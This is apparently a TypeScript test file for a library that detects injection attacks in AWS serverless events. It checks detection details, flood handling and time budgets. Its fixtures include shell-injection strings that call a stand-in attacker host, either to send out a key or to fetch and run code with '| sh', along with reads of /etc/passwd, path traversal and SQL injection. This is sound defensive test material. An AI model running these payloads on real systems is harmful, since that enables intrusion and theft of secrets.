import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { attackClassNames } from '@postern/core';
import { detectors } from './detectors/index.ts';
import { inspectEvent } from './inspect.ts';
import { inspectionBudget } from './options.ts';
import { readEvent } from './reader.ts';
import { structures } from './structures/index.ts';

const events = join(import.meta.dirname, '../../../fixtures/events');
const files = readFileSync(join(events, 'INDEX.tsv'), 'utf8')
  .trim()
  .split('\n')
  .slice(1)
  .map((line) => line.split('\t')[0] as string);

test('real events of every platform pass without a detection', (context) => {
  assert.ok(files.length > 200);
  const found: string[] = [];
  for (const file of files) {
    const inspection = inspectEvent(JSON.parse(readFileSync(join(events, file), 'utf8')));
    for (const { class: name, path, evidence } of inspection.detections) found.push(`${file} ${name} ${path} ${evidence}`);
    assert.equal(inspection.incomplete, undefined, file);
  }
  assert.deepEqual(found, []);
  context.diagnostic(`note: ${files.length} real events`);
});

test('a detection says where, what and how sure', () => {
  const data = Buffer.from(JSON.stringify({ cmd: 'x; curl http://attacker.example/?k=AKIAIOSFODNN7EXAMPLE' })).toString('base64');
  const { detections, level, trigger } = inspectEvent({ Records: [{ eventSource: 'aws:kinesis', kinesis: { data } }] });
  assert.equal(level, 'certain');
  assert.equal(trigger, 'aws:kinesis');
  const [first] = detections;
  assert.deepEqual(first, {
    class: 'cmdi',
    detector: 'shell-injection',
    cwe: [78],
    capec: [88],
    path: '$.Records[0].kinesis.data',
    encodings: ['base64', 'json:$.cmd'],
    span: [3, 55],
    evidence: 'x; curl http://attacker.example/?k=‹redacted›',
    reason: 'a shell would run curl after ;',
    confidence: 'high',
  });
});
test('a doubt alone is suspicious', () => assert.equal(inspectEvent({ v: '12345678; id' }).level, 'suspicious'));
test('quotes and commas of JSON are no attack', () => assert.equal(inspectEvent({ body: '{"a":"b","c":["d;","e"]}' }).level, 'none'));
test('what the platform stamped is not inspected, what was forged in its place is', () => {
  const eventWith = (name: string) => ({ Records: [{ eventSource: 'aws:s3', s3: { bucket: { name }, object: { key: 'a.pdf' } } }] });
  assert.equal(readEvent(eventWith('my-bucket.eu')).values.length, 1);
  assert.equal(inspectEvent(eventWith('x; curl http://attacker.example/')).level, 'certain');
  assert.equal(inspectEvent(eventWith('../../../../etc/passwd')).level, 'certain');
});

test('an event full of attacks is reported by its first ones, and by those that a flood would hide', () => {
  const flood = Array.from({ length: 5_000 }, (_, i) => `${i} 12345678; id`);
  const { detections, more, level, incomplete } = inspectEvent({ a: flood, b: "' or 1=1 --", c: '; curl http://attacker.example/x | sh' });
  assert.equal(level, 'certain');
  assert.equal(incomplete, undefined);
  assert.equal(detections.length, 102);
  assert.equal(more, 4_900);
  assert.deepEqual(
    detections.slice(99).map((detection) => [detection.class, detection.confidence, detection.path]),
    [
      ['cmdi', 'medium', '$.a[99]'],
      ['sqli', 'high', '$.b'],
      ['cmdi', 'high', '$.c'],
    ],
  );
});
test('a few detections are all there are', () => assert.ok(!('more' in inspectEvent({ a: "' or 1=1 --" }))));

test('a text that was clean is looked at again for patterns of one’s own', () => {
  const text = 'aaaaa aaaaaaaaaaaaaaaa!';
  assert.equal(inspectEvent({ v: text }).level, 'none');
  assert.equal(inspectEvent({ v: text }, { patterns: [/^(a|a| )*$/] }).level, 'certain');
});
describe('equal texts in one event', () => {
  test('are each listed with their own path, and judged where they stand', () => {
    const attack = '; curl http://attacker.example/x | sh';
    const { detections } = inspectEvent({ a: [attack, attack], b: attack, package: { scripts: { build: attack } }, c: [[attack]] });
    assert.deepEqual(
      detections.filter(({ class: name }) => name === 'cmdi').map(({ path, confidence }) => `${path} ${confidence}`),
      ['$.a[0] high', '$.a[1] high', '$.b high', '$.package.scripts.build medium', '$.c[0][0] high'],
    );
  });
  test('are judged once', () => {
    const cpu = () => process.cpuUsage().user;
    const time = (event: unknown) => {
      const start = cpu();
      inspectEvent(event);
      return cpu() - start;
    };
    const equal = Array.from({ length: 10_000 }, () => ';cat /etc/passwd && id');
    time(equal.slice(0, 1000));
    const different = Math.min(...[1, 2].map(() => time(equal.map((text, i) => `${text} ${i}`))));
    const same = Math.min(...[1, 2].map(() => time(equal)));
    assert.ok(same * 2 < different, `${same} and ${different} µs`);
  });
});

describe('time', () => {
  const minute = 60_000;
  test('is a share of what the invocation has left, at most 20 ms, and never nothing', () => {
    assert.deepEqual(inspectionBudget({ remainingMs: 200 }), { time: 10 });
    assert.deepEqual(inspectionBudget({ remainingMs: 15 * minute }), { time: 20 });
    assert.deepEqual(inspectionBudget({ remainingMs: 1000, share: 0.01, most: 5 }), { time: 5 });
    for (const remainingMs of [0, -5, Number.NaN]) assert.ok(inspectionBudget({ remainingMs }).time > 0);
  });
  test('counts reading and inspecting together, and is not looked at for a small event', () => {
    let looks = 0;
    const now = () => looks++;
    inspectEvent({ body: JSON.stringify({ text: "it's a text & more; ".repeat(50) }) }, { limits: { time: 5 }, now });
    assert.equal(looks, 0);
  });
  test('ends a large text at what there is time for, with its beginning looked at', () => {
    const attack = '; curl http://attacker.example/ ';
    const padding = Array.from({ length: 700_000 }, (_, i) => (i * 7919) % 1_000_003).join(' ');
    const stopped = inspectEvent({ v: attack + padding }, { limits: { time: 20 }, now: () => 7 });
    assert.deepEqual([stopped.incomplete, stopped.level !== 'none'], ['time', true]);
    const late = inspectEvent({ v: padding + attack }, { limits: { time: 20 }, now: () => 7 });
    assert.deepEqual([late.incomplete, late.level], ['time', 'none']);
  });
  test('ends many values', () => {
    let clock = 0;
    const event = Array.from({ length: 100_000 }, (_, i) => `v ${i};`);
    assert.equal(inspectEvent(event, { limits: { time: 20 }, now: () => clock++ }).incomplete, 'time');
    assert.equal(inspectEvent(event).incomplete, undefined);
  });
});

test('each class of attacks has something that looks for it', () => {
  const classes = new Set([...detectors, ...structures].map((detector) => detector.class));
  assert.deepEqual(
    attackClassNames.filter((name) => !classes.has(name)),
    [],
  );
});
